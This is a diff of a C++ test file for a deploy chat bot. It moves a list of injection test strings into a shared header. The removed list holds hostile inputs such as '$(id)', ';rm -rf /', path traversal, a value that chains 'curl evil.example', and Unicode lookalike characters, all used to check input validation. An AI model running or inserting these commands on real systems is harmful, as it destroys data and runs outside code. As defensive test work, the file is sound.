@@ -7,6 +7,7 @@
 #include "commands/handlers.h"
 #include "common/chat_input.h"
 #include "tests/support/command_harness.h"
+#include "tests/support/injection_strings.h"
 
 namespace shipmate::testing {
 namespace {
@@ -571,26 +572,6 @@ TEST_F(ApprovalTest, RollbacksSkipApprovalAndWaitingSurvivesARestart) {
   EXPECT_TRUE(has(h.run("carol", "approve 4"), "is approved, but hello@production is locked"));
   h.run("carol", "unlock hello@production");
   EXPECT_TRUE(has(h.run("carol", "approve 4"), "Deploy #4 succeeded"));
-}
-
-// Issue 18, item 5. Strings a workflow, a shell step, a path or a tool's options would misread,
-// and characters that only look like allowed ones.
-std::vector<std::string> injection_strings() {
-  return {"$(id)",
-          ";rm -rf /",
-          "`id`",
-          "../etc",
-          "-rf",
-          ".hidden",
-          "a..b",
-          "v1\nv2",
-          std::string(kMaxVersionLength + 1, 'v'),
-          "v1 && curl evil.example",
-          "v1\xe2\x80\xa4"
-          "2",  // U+2024 ONE DOT LEADER
-          "\xef\xbd\x96"
-          "1",           // U+FF56 FULLWIDTH v
-          "v\xd0\xb0"};  // Cyrillic a
 }
 
 // The refusal happens in prepare_deploy/prepare_rollback for every target kind, before the
